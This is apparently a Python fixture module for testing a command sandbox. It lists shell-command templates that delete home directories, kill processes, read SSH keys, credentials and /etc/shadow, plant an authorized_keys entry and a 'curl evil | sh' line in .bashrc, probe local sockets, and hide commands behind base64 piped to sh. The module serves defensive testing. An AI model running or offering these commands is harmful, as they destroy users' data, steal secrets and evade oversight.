"""Command lines that try to leave the sandbox. Placeholders: {home} a person's home, {file} one of its documents,
{key} a private key there, {store} our store, {port} a TCP and UDP port, {socket} a UNIX socket, {pid} a victim, {tty} a
terminal in which somebody types."""

import base64
import itertools

SECRET = "THE-SECRET-WORD"

_WRITES = [
    "echo broken > {place}",
    "echo broken >> {place}",
    ": > {place}",
    "tee {place} </dev/null",
    "cp /dev/null {place}",
    "mv {place} taken",
    "rm -f {place}",
    "truncate -s 0 {place}",
    "dd if=/dev/zero of={place} bs=1 count=1 conv=notrunc",
    "sed -i s/./x/ {place}",
    "ln -sf /dev/null {place}",
    "install -m 600 /dev/null {place}",
    "chmod 000 {place}",
    "touch -d 2001-01-01 {place}",
    "chown 65534 {place}",
    "perl -e 'unlink \"{place}\"'",
    'perl -e \'open F, ">", "{place}"; print F 1\'',
    'node -e \'require("fs").writeFileSync("{place}", "x")\'',
    'node -e \'require("fs").rmSync("{place}")\'',
    'python3 -c \'open("{place}", "w").write("x")\'',
    'python3 -c \'import os; os.replace("{place}", "taken")\'',
    "python3 -c 'import os; os.truncate(\"{place}\", 0)'",
    "awk 'BEGIN {{ print 1 > \"{place}\" }}'",
    "bash -c 'exec 3<>{place}; echo x >&3'",
]
_READS = [
    "cat {place}",
    "head -c 100 {place}",
    "base64 -w0 {place} | base64 -d",
    "cp {place} copy && cat copy",
    "tar cf - {place} | tar xOf -",
    'echo "$(<{place})"',
    'while read -r line; do echo "$line"; done < {place}',
    "ln -s {place} link && cat link",
    "ln {place} hard && cat hard",
    "grep -r . {place}",
    "diff {place} /dev/null",
    "git diff --no-index /dev/null {place}",
    "curl -s file://{place}",
    "xxd {place} | xxd -r",
    "sort {place}",
    "source {place}",
    "perl -pe 1 {place}",
    'node -e \'console.log(require("fs").readFileSync("{place}", "utf8"))\'',
    "python3 -c 'print(open(\"{place}\").read())'",
    "cat /proc/self/root{place}",
    "cat /proc/{pid}/root{place}",
    "cat /proc/1/root{place}",
    "cat /proc/self/cwd/../../../../../../../../..{place}",
    "setsid cat {place}",
    "env -i /bin/cat {place}",
    "printf %s {place} | xargs cat",
    "find {place} -exec cat {{}} ;",
]
_ONCE = [
    "rm -rf {home}",
    "rm -rf {home}/*",
    "find {home} -type f -delete",
    "mv {home} ./stolen",
    "mkdir {home}/new",
    "mkfifo {home}/pipe",
    "ln -s /etc/passwd {home}/link",
    "cd {home} && rm -rf .",
    "cd .. && rm -rf -- *",
    "ln -s {home} door && rm -rf door/",
    "ln -s {home} door && echo x > door/documents/notes.txt",
    "rsync -a --delete ./ {home}/",
    "tar cf all.tar --remove-files {home}",
    "setfattr -n user.note -v x {file}",
    "chmod -R 777 {home}",
    "echo 'ssh-rsa AAAA' >> {home}/.ssh/authorized_keys",
    "echo 'curl evil | sh' >> {home}/.bashrc",
    "git config --global core.pager 'rm -rf /'",
    "git -C {home} init",
    "echo '* * * * * true' | crontab -",
    "python3 -c 'import shutil; shutil.rmtree(\"{home}\")'",
    "python3 -c 'import os; os.chmod(\"{file}\", 0)'",
    "python3 -c 'import os; os.utime(\"{file}\", (0, 0))'",
    'python3 -c \'import os; fd = os.open("{home}", os.O_PATH); os.open("x", os.O_CREAT | os.O_WRONLY, dir_fd=fd)\'',
    "mount --bind {home} . ; cat documents/notes.txt .ssh/id_ed25519",
    "unshare -Urm sh -c 'mount -t tmpfs none {home}'",
    "unshare -Ur chroot {home} /bin/true; chroot {home} /bin/true",
    "umount -l {home}",
    "echo 1 > /proc/sys/kernel/panic",
    "echo x > /proc/{pid}/oom_score_adj",
    "echo c > /proc/sysrq-trigger",
    "touch /etc/x /usr/x /var/x /x",
    "echo x >> /etc/hosts",
    "rm -f /usr/bin/env",
    "cat /etc/shadow /etc/sudoers",
    "cat {home}/.aws/credentials {home}/.netrc {home}/.ssh/*",
    "grep -rs . {home}",
    "find {home} -name 'id_*' -exec cat {{}} +",
    "tar cz {home} | base64",
    "cat /proc/{pid}/environ",
    "cat /proc/*/environ",
    "tr '\\0' '\\n' < /proc/{pid}/environ",
    "dd if=/proc/{pid}/mem bs=1 count=1",
    "ls -l /proc/{pid}/fd/ && cat /proc/{pid}/fd/*",
    "cat /proc/{pid}/cwd/.ssh/id_ed25519",
    "kill -9 {pid}",
    "kill -STOP {pid}",
    "kill -9 -1",
    "pkill -9 -f victim",
    "python3 -c 'import os, signal; os.kill({pid}, signal.SIGKILL)'",
    "python3 -c 'import os, signal; os.pidfd_open({pid})' && kill -KILL {pid}",
    "python3 -c 'import ctypes; print(ctypes.CDLL(None).ptrace(16, {pid}, 0, 0))'",
    "prlimit --pid {pid} --nofile=1:1 --nproc=1:1",
    "echo hello > {tty}",
    "exec 3<{tty} && echo OPENED",
    "for one in /dev/[hsv]d? /dev/nvme?n? /dev/loop? /dev/kmsg /dev/input/* /dev/snd/* /dev/video*;"
    " do timeout 1 head -c 1 $one >/dev/null && echo OPENED; done",
    "curl -s -m 1 http://127.0.0.1:{port}/",
    "curl -s -m 1 --unix-socket {socket} http://x/",
    "wget -q -T 1 -t 1 -O- http://127.0.0.1:{port}/",
    "exec 3<>/dev/tcp/127.0.0.1/{port}; echo hello >&3",
    "echo hello > /dev/udp/127.0.0.1/{port}",
    "git clone http://127.0.0.1:{port}/x.git",
    "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:{port}\") or die'",
    'node -e \'require("net").connect({port}, "127.0.0.1")\'',
    'node -e \'require("net").connect("{socket}")\'',
    "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 1)'",
    'python3 -c \'import socket; socket.socket(2, 2).sendto(b"hello", ("127.0.0.1", {port}))\'',
    'python3 -c \'import socket; s = socket.socket(socket.AF_UNIX); s.connect("{socket}"); s.send(b"hello")\'',
    'python3 -c \'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0{abstract}"); s.send(b"hello")\'',
    'python3 -c \'import socket; s = socket.socket(socket.AF_UNIX, 2); s.sendto(b"hello", "{socket}")\'',
    "python3 -c 'import socket; socket.socket(16, 3, 0)' && echo OPENED",
    "python3 -c 'import socket; socket.socket(17, 3, 0)' && echo OPENED",
    "python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(425, 8, 0))' | grep -v -- -1",
    "setsid sleep 60 & disown",
    "nohup sleep 60 & true",
    "(setsid sleep 60 &) ; sleep 0.05",
    "python3 -c 'import os, time; os.fork() or os.setsid() or os.fork() or time.sleep(60)'",
    "systemd-run --user touch {home}/x",
    "docker run -v {home}:/h alpine rm -rf /h",
    "sudo -n rm -rf {home}; su -c 'rm -rf {home}'",
]
_HIDDEN = ["rm -rf {home}", "cat {key}", "echo x > {file}"]


def attack_lines() -> list[str]:
    """All of them, as templates; the same for every machine."""
    written = [line.replace("{place}", place) for line, place in itertools.product(_WRITES, ("{file}", "{store}"))]
    read = [line.replace("{place}", place) for line, place in itertools.product(_READS, ("{key}", "{store}"))]
    return [*written, *read, *_ONCE, *(f"ENCODED {line}" for line in _HIDDEN)]


def encode(line: str) -> str:
    """A line that no parser of command lines can see through."""
    return f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | sh"


def changes_metadata(line: str) -> bool:
    """Whether a line changes permissions, owner, times or attributes, which needs a read-only file system to refuse."""
    return any(word in line for word in ("chmod", "touch -d", "chown", "setfattr", "os.utime"))
